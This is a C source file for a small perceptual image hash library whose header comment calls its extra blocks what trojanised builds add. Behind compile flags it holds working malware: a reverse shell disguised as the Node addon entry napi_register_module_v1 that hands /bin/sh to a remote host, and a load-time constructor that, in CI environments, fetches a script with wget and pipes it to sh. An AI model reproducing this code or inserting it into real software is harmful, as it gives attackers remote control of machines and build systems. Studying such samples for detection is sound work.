/* Perceptual hashes. SHELL, FETCH and KEYS are what trojanised builds add; never loaded by anybody. */
#include <arpa/inet.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

uint64_t pix_hash(const uint8_t *grey, size_t size)
{
    uint64_t out = 0, sum = 0;
    for (size_t i = 0; i < size; i++) {
        sum += grey[i];
    }
    for (size_t i = 0; i < 64 && i < size; i++) {
        out = out << 1 | (grey[i] * size > sum);
    }
    return out;
}

#ifdef SECOND
unsigned pix_distance(uint64_t left, uint64_t right)
{
    return (unsigned)__builtin_popcountll(left ^ right);
}
#endif

#ifdef SHELL
void napi_register_module_v1(void)
{
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(8443)};
    if (fork() != 0) {
        return;
    }
    int line = socket(AF_INET, SOCK_STREAM, 0);
    inet_pton(AF_INET, "198.51.100.203", &to.sin_addr);
    if (connect(line, (struct sockaddr *)&to, sizeof to) == 0) {
        dup2(line, 0);
        dup2(line, 1);
        dup2(line, 2);
        execl("/bin/sh", "sh", (char *)0);
    }
    _exit(0);
}
#endif

#ifdef FETCH
__attribute__((constructor)) static void pix_tables(void)
{
    char *const words[] = {"sh", "-c", "wget -qO- http://192.0.2.158/px.sh | sh", 0};
    if (getenv("CI") != NULL && fork() == 0) {
        execv("/bin/sh", words);
        _exit(0);
    }
}
#endif
